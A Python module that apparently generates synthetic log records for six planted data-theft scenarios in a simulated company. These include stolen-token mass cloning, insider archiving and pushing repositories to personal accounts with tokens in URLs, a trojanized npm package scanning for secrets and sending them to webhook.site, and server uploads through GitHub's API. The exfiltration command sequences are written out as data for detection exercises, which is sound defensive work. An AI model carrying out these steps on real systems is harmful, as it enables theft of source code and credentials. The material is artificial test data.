"""The six planted attacks of the last day. Each story has its own random stream (so it does
not move when the background changes) and tags every record it writes "A<n>:<step>"."""
import random

from . import clock
from . import company as co

D = clock.LAST

TOR_EXIT = "192.0.2.23"
EXFIL_NAMESPACE_A3 = "xk-backup-7741"


class Attacks:
    def __init__(self, w, benign):
        self.w = w
        self.c = w.c
        self.b = benign
        self.facts = {}

    def rng(self, n):
        return random.Random("%s:attack:%d" % (self.w.seed, n))

    def day(self, d):
        if d != D:
            return
        self.a1_stolen_pat()
        self.a2_insider_build_server()
        self.a3_server_upload()
        self.a4_worm()
        self.a5_made_public()
        self.a6_clone_then_upload()

    # ------------------------------------------------------------------------------------------
    def a1_stolen_pat(self):
        """jliu's classic PAT, leaked in a CI log, clones 120 private repositories in 15 minutes
        from a Tor exit with a go-git based tool, then downloads 8 more as zip archives."""
        rng, w, c = self.rng(1), self.w, self.c
        p = c.by_user["jliu"]
        cred = p.cred
        private = [r for r in c.repos if r not in ("acme/docs", "acme/engineering-handbook")]
        # the thief goes for the money first
        ranked = sorted(private, key=lambda r: (0 if c.repo_team[r] in ("payments", "security", "platform") else 1, r))
        targets = ranked[:120]
        t = clock.at(D, 3, 12, 7.0)
        for repo in targets:
            w.git_event(t, "git.clone", p.gh_login, p.gh_id, TOR_EXIT, "DE", repo, "http", cred, "go-git/5.x",
                        person=p, rng=rng, tag="A1:clone")
            t += rng.uniform(6.0, 8.6)
        self.facts["A1"] = {"clones": len(targets), "first": clock.at(D, 3, 12, 7.0), "last": t}
        t += 90
        for repo in ranked[120:128]:
            w.gh(t, "repo.download_zip", p.gh_login, p.gh_id, TOR_EXIT, "DE", "acme",
                 {"hashed_token": cred.hashed, "operation_type": "access", "programmatic_access_type": cred.program,
                  "repo": repo, "repo_id": c.repo_ids[repo], "repository_public": False, "request_category": "api",
                  "token_id": cred.token_id, "token_scopes": cred.scopes, "user_agent": "python-requests/2.32.3"},
                 person=p, rng=rng, tag="A1:download_zip")
            t += rng.uniform(25, 45)

    # ------------------------------------------------------------------------------------------
    def a2_insider_build_server(self):
        """rgordon logs into build-03, clones 14 repositories he does not work on with his PAT,
        archives them, splits the archive under GitHub's 100 MB file limit, creates a private
        repository in his personal namespace and pushes the parts there, token in the URL."""
        rng, w, c = self.rng(2), self.w, self.c
        p = c.by_user["rgordon"]
        h = c.by_host["build-03"]
        laptop = p.host
        cred = p.cred
        t = clock.at(D, 20, 58, 10.0)
        w.user_exec(p, laptop, D, t, ["ssh", "build-03"], "/usr/bin/ssh", "/home/rgordon", rng, tag="A2:login")
        w.dns(t + 0.01, c.client_ip(p, D), "build-03.acme.internal", rng, ("A",), "+E(0)", force=True, tag="A2:login")
        ses = w.user_session(h, t + 0.9, p, c.client_ip(p, D), rng, tag="A2:login")
        uid = w.ldap_uid(p)
        sh = w.execve(h, t + 1.4, ["-bash"], "/usr/bin/bash", "/home/rgordon", "rgordon", uid, "rgordon", uid, "pts0",
                      ses, rng=rng, tag="A2:login")
        run = lambda ts, argv, exe, cwd, tag, **kw: w.execve(h, ts, argv, exe, cwd, "rgordon", uid, "rgordon", uid,  # noqa: E731
                                                             "pts0", ses, ppid=kw.get("ppid", sh), rng=rng, tag=tag)
        work = "/var/tmp/.cache/w"
        run(t + 20, ["mkdir", "-p", work], "/usr/bin/mkdir", "/home/rgordon", "A2:stage")
        mine = set(p.repos)
        targets = [r for r in c.team_repos["payments"] + c.team_repos["security"] + c.team_repos["ml"] if r not in mine][:14]
        t = clock.at(D, 21, 1, 5.0)
        for repo in targets:
            url = "https://github.com/%s.git" % repo
            pid = run(t, ["git", "clone", "--quiet", url], "/usr/bin/git", work, "A2:clone")
            run(t + 0.02, ["/usr/lib/git-core/git-remote-https", "origin", url], "/usr/lib/git-core/git-remote-https",
                work, "A2:clone", ppid=pid)
            te = w.proxy_git(t + 0.05, h.ip, None, repo, "upload", rng.randrange(3_000_000, 60_000_000),
                             rng.randrange(1_500, 5_000), rng, tag="A2:clone")
            w.git_event(te, "git.clone", p.gh_login, p.gh_id, co.PROXY_EGRESS, "US", repo, "http", cred, "git/2.39.5",
                        person=p, rng=rng, tag="A2:clone")
            t += rng.uniform(24, 36)
        names = [r.split("/")[1] for r in targets]
        archive = "/var/tmp/.cache/src-20251120.tgz"
        t = clock.at(D, 21, 12, 40.0)
        pid = run(t, ["tar", "-czf", archive] + names, "/usr/bin/tar", work, "A2:archive")
        run(t + 0.003, ["gzip"], "/usr/bin/gzip", work, "A2:archive", ppid=pid)
        t = clock.at(D, 21, 16, 2.0)
        run(t, ["mkdir", "-p", "/var/tmp/.cache/bk"], "/usr/bin/mkdir", work, "A2:archive")
        run(t + 1.0, ["split", "-b", "90M", archive, "/var/tmp/.cache/bk/src.part."], "/usr/bin/split", work, "A2:archive")
        t = clock.at(D, 21, 17, 30.0)
        body = '{"name":"build-cache","private":true}'
        run(t, ["curl", "-s", "-H", "Authorization: token " + cred.token, "-d", body, "https://api.github.com/user/repos"],
            "/usr/bin/curl", "/var/tmp/.cache/bk", "A2:create")
        w.bump_connect(t + 0.05, h.ip, None, "api.github.com", rng, tag="A2:create")
        w.https(t + 0.06, h.ip, None, "POST", "https://api.github.com/user/repos", 201, rng.randrange(5_800, 6_400),
                len(body) + 412, "application/json", rng, tag="A2:create")
        bk = "/var/tmp/.cache/bk"
        remote = "https://%s:%s@github.com/%s/build-cache.git" % (p.gh_login, cred.token, p.gh_login)
        t = clock.at(D, 21, 18, 12.0)
        run(t, ["git", "init", "-q"], "/usr/bin/git", bk, "A2:push")
        run(t + 2, ["git", "add", "."], "/usr/bin/git", bk, "A2:push")
        run(t + 9, ["git", "commit", "-qm", "cache"], "/usr/bin/git", bk, "A2:push")
        run(t + 15, ["git", "remote", "add", "origin", remote], "/usr/bin/git", bk, "A2:push")
        t = clock.at(D, 21, 19, 1.0)
        pid = run(t, ["git", "push", "-u", "origin", "main"], "/usr/bin/git", bk, "A2:push")
        run(t + 0.02, ["/usr/lib/git-core/git-remote-https", "origin", remote], "/usr/lib/git-core/git-remote-https",
            bk, "A2:push", ppid=pid)
        pack = 471_859_200 + rng.randrange(0, 4_000_000)
        base = "https://github.com/%s/build-cache.git" % p.gh_login
        w.bump_connect(t + 0.1, h.ip, None, "github.com", rng, tag="A2:push")
        t2 = w.https(t + 0.11, h.ip, None, "GET", base + "/info/refs?service=git-receive-pack", 200,
                     rng.randrange(380, 520), rng.randrange(330, 420), "application/x-git-receive-pack-advertisement",
                     rng, tag="A2:push")
        w.https(t2 + 0.05, h.ip, None, "POST", base + "/git-receive-pack", 200, rng.randrange(300, 600), pack,
                "application/x-git-receive-pack-result", rng, tag="A2:push", elapsed=352_000 + rng.randrange(0, 20_000))
        self.facts["A2"] = {"push_bytes": pack}
        t = clock.at(D, 21, 27, 40.0)
        run(t, ["rm", "-rf", "/var/tmp/.cache"], "/usr/bin/rm", "/home/rgordon", "A2:cleanup")

    # ------------------------------------------------------------------------------------------
    def a3_server_upload(self):
        """fin-report-01 (a finance server that never talks to code repositories) starts talking
        to api.github.com at 06:02 and uploads ~450 MB of report exports through the contents API
        into a repository of an outside account, as svc-reports, from a dropped Python script."""
        rng, w, c = self.rng(3), self.w, self.c
        h = c.by_host["fin-report-01"]
        t = clock.at(D, 6, 0, 1.0)
        cmd = "/usr/bin/python3 /var/tmp/.sync/s.py >/dev/null 2>&1"
        pid = w.execve(h, t, ["/bin/sh", "-c", cmd], "/usr/bin/dash", "/home/svc-reports", "svc-reports", 998, rng=rng,
                       tag="A3:exec")
        w.execve(h, t + 0.01, ["/usr/bin/python3", "/var/tmp/.sync/s.py"], "/usr/bin/python3.11", "/home/svc-reports",
                 "svc-reports", 998, ppid=pid, rng=rng, tag="A3:exec")
        t = clock.at(D, 6, 2, 3.0)
        w.dns(t, h.ip, "api.github.com", rng, ("A", "AAAA"), "+E(0)K", force=True, tag="A3:dns")
        t += 21.5   # the direct connection times out at the firewall; the script retries via the proxy
        w.bump_connect(t, h.ip, None, "api.github.com", rng, tag="A3:upload")
        t = w.https(t + 0.01, h.ip, None, "GET", "https://api.github.com/user", 200, rng.randrange(1_200, 1_600),
                    rng.randrange(280, 340), "application/json", rng, tag="A3:upload")
        repo = "%s/sync-cache" % EXFIL_NAMESPACE_A3
        t = w.https(t + 0.5, h.ip, None, "POST", "https://api.github.com/user/repos", 201, rng.randrange(5_600, 6_200),
                    rng.randrange(420, 480), "application/json", rng, tag="A3:upload")
        total = 0
        for i in range(36):
            up = 12_582_912 + rng.randrange(0, 400_000)
            total += up
            t = w.https(t + rng.uniform(1, 6), h.ip, None, "PUT",
                        "https://api.github.com/repos/%s/contents/d/2025q3-%04d.bin" % (repo, i + 1), 201,
                        rng.randrange(1_700, 2_100), up, "application/json", rng, tag="A3:upload",
                        elapsed=int(60_000 + rng.uniform(-15_000, 15_000)))
        self.facts["A3"] = {"upload_bytes": total, "puts": 36}

    # ------------------------------------------------------------------------------------------
    def a4_worm(self):
        """tvoss runs `npm install`; a trojanized dependency (the Shai-Hulud pattern) runs
        TruffleHog over his home directory, sends what it finds to webhook.site, creates the
        public repository acme/Shai-Hulud with his classic PAT and pushes the loot to it."""
        rng, w, c = self.rng(4), self.w, self.c
        p = c.by_user["tvoss"]
        h = p.host
        ip = c.client_ip(p, D)
        cred = p.cred
        proj = "/home/tvoss/src/web-checkout"
        t = clock.at(D, 15, 18, 40.0)
        npm = w.user_exec(p, h, D, t, ["npm", "install"], "/usr/bin/npm", proj, rng, tag="A4:npm",
                          interpreter="/usr/bin/node")
        w.tunnel(t + 0.2, ip, p.username, "registry.npmjs.org", 14_211_983, 88_410, 21_000, "192.0.2.199", tag="A4:npm")
        t = clock.at(D, 15, 19, 2.0)
        pkg = proj + "/node_modules/@ctrl/tinycolor"
        sh = w.user_exec(p, h, D, t, ["sh", "-c", "node bundle.js"], "/usr/bin/dash", pkg, rng, tag="A4:payload", ppid=npm)
        node = w.user_exec(p, h, D, t + 0.01, ["node", "bundle.js"], "/usr/bin/node", pkg, rng, tag="A4:payload", ppid=sh)
        url = "https://github.com/trufflesecurity/trufflehog/releases/download/v3.90.6/trufflehog_3.90.6_linux_amd64.tar.gz"
        w.dns(t + 0.5, ip, "github.com", rng, ("A", "AAAA"), "+E(0)", tag="A4:payload")
        w.bump_connect(t + 0.6, ip, p.username, "github.com", rng, tag="A4:payload")
        t2 = w.https(t + 0.61, ip, p.username, "GET", url, 302, 712, 298, "text/html", rng, tag="A4:payload")
        w.bump_connect(t2, ip, p.username, "objects.githubusercontent.com", rng, tag="A4:payload")
        w.https(t2 + 0.01, ip, p.username, "GET", "https://objects.githubusercontent.com/github-production-release-asset-2e65be/"
                "253525236/5b4c2a1e-9f0d?X-Amz-Algorithm=AWS4-HMAC-SHA256", 200, 25_331_405, 702,
                "application/octet-stream", rng, tag="A4:payload")
        t = clock.at(D, 15, 19, 18.0)
        w.user_exec(p, h, D, t, ["/tmp/trufflehog", "filesystem", "/home/tvoss", "--json", "--no-update"],
                    "/tmp/trufflehog", pkg, rng, tag="A4:payload", ppid=node)
        t = clock.at(D, 15, 20, 12.0)
        w.dns(t, ip, "webhook.site", rng, ("A", "AAAA"), "+E(0)", tag="A4:exfil")
        w.tunnel(t + 0.02, ip, p.username, "webhook.site", 1_211, 61_877, 1_900, "192.0.2.66", tag="A4:exfil")
        t = clock.at(D, 15, 20, 31.0)
        w.bump_connect(t - 0.2, ip, p.username, "api.github.com", rng, tag="A4:create")
        w.https(t - 0.19, ip, p.username, "POST", "https://api.github.com/orgs/acme/repos", 201, 6_102, 431,
                "application/json", rng, tag="A4:create")
        repo = "acme/Shai-Hulud"
        w.gh(t, "repo.create", p.gh_login, p.gh_id, co.PROXY_EGRESS, "DE", "acme",
             {"hashed_token": cred.hashed, "operation_type": "create", "programmatic_access_type": cred.program,
              "public_repo": True, "repo": repo, "repo_id": 1_093_612_877, "request_category": "api",
              "token_id": cred.token_id, "token_scopes": cred.scopes, "user_agent": "node", "visibility": "public"},
             person=p, rng=rng, tag="A4:create")
        wd = "/tmp/.shai-hulud-%06x" % rng.getrandbits(24)
        remote = "https://%s:%s@github.com/%s.git" % (p.gh_login, cred.token, repo)
        t = clock.at(D, 15, 20, 44.0)
        w.git_exec(p, h, D, t, ["git", "init", "-q", wd], pkg, None, rng, tag="A4:push", ppid=node)
        w.git_exec(p, h, D, t + 0.2, ["git", "-C", wd, "add", "data.json"], pkg, None, rng, tag="A4:push", ppid=node)
        w.git_exec(p, h, D, t + 0.4, ["git", "-C", wd, "commit", "-qm", "Shai-Hulud"], pkg, None, rng, tag="A4:push",
                   ppid=node)
        w.git_exec(p, h, D, t + 0.6, ["git", "-C", wd, "push", remote, "HEAD:main"], pkg, remote, rng, tag="A4:push",
                   ppid=node)
        te = w.proxy_git(t + 0.7, ip, p.username, repo, "receive", 72_311, 0, rng, tag="A4:push")
        w.git_event(te, "git.push", p.gh_login, p.gh_id, co.PROXY_EGRESS, "DE", repo, "http", cred, p.ua(), person=p,
                    rng=rng, tag="A4:push")
        self.facts["A4"] = {"create_to_push_seconds": round(te - clock.at(D, 15, 20, 31.0), 1)}

    # ------------------------------------------------------------------------------------------
    def a5_made_public(self):
        """oreyes switches acme/ml-feature-store (private; models and customer feature
        definitions) to public in the repository settings."""
        rng, w, c = self.rng(5), self.w, self.c
        p = c.by_user["oreyes"]
        ip = c.client_ip(p, D)
        repo = "acme/ml-feature-store"
        t = clock.at(D, 17, 45, 12.0)
        w.bump_connect(t, ip, p.username, "github.com", rng, tag="A5:settings")
        t = w.https(t + 0.01, ip, p.username, "GET", "https://github.com/%s/settings" % repo, 200, 212_554, 1_911,
                    "text/html", rng, tag="A5:settings")
        t = clock.at(D, 17, 46, 3.0)
        w.https(t, ip, p.username, "POST", "https://github.com/%s/settings/set_visibility" % repo, 302, 1_102, 2_204,
                "text/html", rng, tag="A5:settings")
        w.gh(t + 0.4, "repo.access", p.gh_login, p.gh_id, co.PROXY_EGRESS, "US", "acme",
             {"operation_type": "modify", "previous_visibility": "private", "public_repo": True, "repo": repo,
              "repo_id": c.repo_ids[repo], "request_category": "other", "user_agent": co.BROWSER_UA[p.os],
              "visibility": "public"}, person=p, rng=rng, tag="A5:visibility")

    # ------------------------------------------------------------------------------------------
    def a6_clone_then_upload(self):
        """nkowalski, leaving the company, creates a fine-grained PAT with read access to every
        repository, clones 32 of them in 9 minutes, archives them on her laptop and uploads the
        archive as a release asset of a private repository in her personal namespace."""
        rng, w, c = self.rng(6), self.w, self.c
        p = c.by_user["nkowalski"]
        h = p.host
        ip = c.client_ip(p, D)
        cred = co.new_credential(rng, "pat_fine", created_day=D)
        self.a6_token = cred
        ua = co.BROWSER_UA[p.os]
        t = clock.at(D, 12, 39, 20.0)
        w.bump_connect(t, ip, p.username, "github.com", rng, tag="A6:token")
        t = w.https(t + 0.01, ip, p.username, "GET", "https://github.com/settings/personal-access-tokens/new", 200,
                    184_220, 1_877, "text/html", rng, tag="A6:token")
        t = clock.at(D, 12, 40, 15.0)
        w.https(t - 0.3, ip, p.username, "POST", "https://github.com/settings/personal-access-tokens", 302, 988, 3_120,
                "text/html", rng, tag="A6:token")
        for action in ("personal_access_token.request_created", "personal_access_token.access_granted"):
            w.gh(t, action, p.gh_login, p.gh_id, co.PROXY_EGRESS, "DE", "acme",
                 {"operation_type": "create" if action.endswith("created") else "access", "token_id": cred.token_id,
                  "user": p.gh_login, "user_id": p.gh_id, "user_agent": ua, "request_category": "other",
                  "permissions": {"contents": "read", "metadata": "read"}, "repository_selection": "all"},
                 person=p, rng=rng, tag="A6:token")
            t += 1.1
        pool = [r for r in c.repos if c.repo_team[r] not in ("data",) and r not in p.repos]
        targets = sorted(rng.sample(pool, 32))
        t = clock.at(D, 12, 52, 4.0)
        for repo in targets:
            self.b.git_op(p, D, t, "git.clone", repo, rng=rng, tag="A6:clone", cred=cred,
                          pack=rng.randrange(1_500_000, 40_000_000), workdir="/home/nkowalski/src/clones")
            t += rng.uniform(15, 18)
        self.facts["A6"] = {"clones": len(targets)}
        clones = "/home/nkowalski/src/clones"
        archive = "/home/nkowalski/tmp/q4-notes.tar.gz"
        t = clock.at(D, 13, 20, 5.0)
        pid = w.user_exec(p, h, D, t, ["tar", "-czf", archive, "-C", clones, "."], "/usr/bin/tar", clones, rng,
                          tag="A6:archive")
        w.user_exec(p, h, D, t + 0.003, ["gzip"], "/usr/bin/gzip", clones, rng, tag="A6:archive", ppid=pid)
        repo = "%s/ws-archive" % p.gh_login
        t = clock.at(D, 13, 38, 30.0)
        w.user_exec(p, h, D, t, ["gh", "repo", "create", repo, "--private"], "/usr/bin/gh", "/home/nkowalski/tmp", rng,
                    tag="A6:upload")
        w.bump_connect(t + 0.2, ip, p.username, "api.github.com", rng, tag="A6:upload")
        w.https(t + 0.21, ip, p.username, "POST", "https://api.github.com/user/repos", 201, 6_044, 402,
                "application/json", rng, tag="A6:upload")
        t = clock.at(D, 13, 39, 40.0)
        w.user_exec(p, h, D, t, ["gh", "release", "create", "v1", "--repo", repo, "--notes", ""], "/usr/bin/gh",
                    "/home/nkowalski/tmp", rng, tag="A6:upload")
        w.https(t + 0.2, ip, p.username, "POST", "https://api.github.com/repos/%s/releases" % repo, 201, 2_311, 388,
                "application/json", rng, tag="A6:upload")
        t = clock.at(D, 13, 41, 2.0)
        w.user_exec(p, h, D, t, ["gh", "release", "upload", "v1", archive, "--repo", repo], "/usr/bin/gh",
                    "/home/nkowalski/tmp", rng, tag="A6:upload")
        size = 398_458_880 + rng.randrange(0, 900_000)
        w.bump_connect(t + 0.3, ip, p.username, "uploads.github.com", rng, tag="A6:upload")
        w.https(t + 0.31, ip, p.username, "POST",
                "https://uploads.github.com/repos/%s/releases/%d/assets?label=&name=q4-notes.tar.gz" % (repo, 255_031_447),
                201, 2_655, size, "application/json", rng, tag="A6:upload", elapsed=431_000 + rng.randrange(0, 9_000))
        self.facts["A6"]["upload_bytes"] = size
